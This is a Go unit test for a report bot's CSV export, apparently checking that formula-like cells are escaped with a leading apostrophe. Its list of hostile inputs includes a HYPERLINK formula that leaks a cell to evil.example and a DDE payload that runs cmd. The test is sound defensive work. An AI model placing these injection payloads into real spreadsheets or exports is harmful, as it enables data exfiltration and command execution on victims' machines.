package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"reportbot/bot"
)

// TestFormulaInjectionCSV: text a contact typed, a department name or a
// user id that starts like a formula (= + - @, tab, carriage return) is
// exported with a leading apostrophe, so a spreadsheet shows it as text
// instead of evaluating it; plain numbers stay numbers.
func TestFormulaInjectionCSV(t *testing.T) {
	r, depts := seedRound(t)
	var textQ *bot.Question
	for _, q := range r.FormFor("zfb").Questions() {
		if q.Kind == bot.KindText {
			textQ = q
			break
		}
	}
	if textQ == nil {
		t.Fatal("seed form has no text question")
	}
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"详情")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
	depts[0].Dept.Name = "=1+1"
	r.Departments[0].Name = "=1+1"
	for i, h := range hostile {
		var buf bytes.Buffer
		depts[0].Assignment.Answers[textQ.ID] = &bot.Answer{QID: textQ.ID, Status: bot.Answered, Text: h, By: "@" + h}
		if err := CSV(&buf, r, depts, nil); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		checked := false
		for _, rec := range recs[1:] {
			for j, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
					t.Errorf("hostile %d: column %d exported as %q", i, j, c)
				}
			}
			if rec[3] == fmt.Sprint(textQ.Number) && rec[0] == "zfb" {
				checked = true
				if rec[6] != "'"+h || rec[10] != "'@"+h || rec[1] != "'=1+1" {
					t.Errorf("hostile %d: answer %q by %q dept %q", i, rec[6], rec[10], rec[1])
				}
			}
		}
		if !checked {
			t.Fatalf("hostile %d: text answer row not found", i)
		}
	}
	for in, want := range map[string]string{"-5": "-5", "+3.5": "+3.5", "103204": "103204", "-": "'-", "1-2": "1-2", "-1e9": "'-1e9", "": ""} {
		if got := safeCell(in); got != want {
			t.Errorf("safeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
